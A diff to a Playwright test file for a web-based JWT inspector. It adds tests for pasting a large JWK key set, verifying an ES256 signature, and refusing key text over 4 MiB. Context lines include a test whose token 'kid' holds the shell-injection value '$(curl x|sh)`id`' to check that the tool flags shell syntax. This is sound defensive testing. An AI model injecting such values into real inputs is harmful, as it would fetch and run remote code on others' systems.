@@ -4,6 +4,7 @@
 // with node:crypto.
 import { createHmac, generateKeyPairSync, sign } from 'node:crypto';
 import { test, expect } from './fixtures';
+import type { Page } from './fixtures';
 import { b64url, defaultPayload, expectSignature, guardPage, hs256, openToken } from './helpers';
 
 const SECRET = 'a-string-secret-at-least-256-bits-long';
@@ -84,4 +85,44 @@ test('a signature whose last character is not canonical gets a note, yet verifie
 test('a kid with $(…) or backticks is flagged as shell syntax', async ({ page }) => {
   await openToken(page, hs256(defaultPayload(), SECRET, { alg: 'HS256', kid: '$(curl x|sh)`id`' }));
   await expect(page.getByText(/contains shell syntax/)).toBeVisible();
+});
+
+/**
+ * A paste as the browser delivers it: the value, then an input event. Playwright's fill types megabytes far too
+ * slowly, and waits for the box to keep the text, which a large key set's box does not (it is held, not drawn).
+ */
+async function pasteKey(page: Page, text: string): Promise<void> {
+  await page.getByTestId('key-input').evaluate((element, value) => {
+    const setValue = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value')?.set;
+    setValue?.call(element, value);
+    element.dispatchEvent(new Event('input', { bubbles: true }));
+  }, text);
+}
+
+test('a large key set is held, not drawn, and still verifies; key text over the limit is refused', async ({ page }) => {
+  const guard = guardPage(page);
+  const pairs = Array.from({ length: 4 }, () => generateKeyPairSync('ec', { namedCurve: 'P-256' }));
+  // 400 keys (about 95,000 characters pretty-printed): over the size the box draws.
+  const keys = Array.from({ length: 400 }, (_, i) => ({
+    ...(pairs[i % 4]?.publicKey.export({ format: 'jwk' }) as Record<string, unknown>),
+    kid: `key-${i}`,
+    alg: 'ES256',
+  }));
+  const signer = pairs[1];
+  if (!signer) throw new Error('no key');
+  const input = `${b64url(JSON.stringify({ alg: 'ES256', kid: 'key-201' }))}.${b64url(JSON.stringify(defaultPayload()))}`;
+  const signature = sign('sha256', Buffer.from(input), { key: signer.privateKey, dsaEncoding: 'ieee-p1363' });
+  await openToken(page, `${input}.${b64url(signature)}`);
+  const text = JSON.stringify({ keys }, null, 2);
+  await pasteKey(page, text);
+  await expectSignature(page, 'verified');
+  await expect(page.getByTestId('signature-status')).toContainText('key-201');
+  await expect(page.getByTestId('key-collapsed')).toBeVisible();
+  await expect(page.getByTestId('key-input')).toHaveValue('');
+  await page.getByTestId('key-collapsed').getByRole('button').click();
+  await expect(page.getByTestId('key-input')).toHaveValue(text);
+  await pasteKey(page, `{"keys":[${' '.repeat(4 * 1024 * 1024)}]}`);
+  await expect(page.getByTestId('key-kind')).toHaveAttribute('data-code', 'too-large');
+  await expect(page.getByTestId('key-kind')).toContainText('the limit is 4,194,304 (4 MiB)');
+  guard.check();
 });
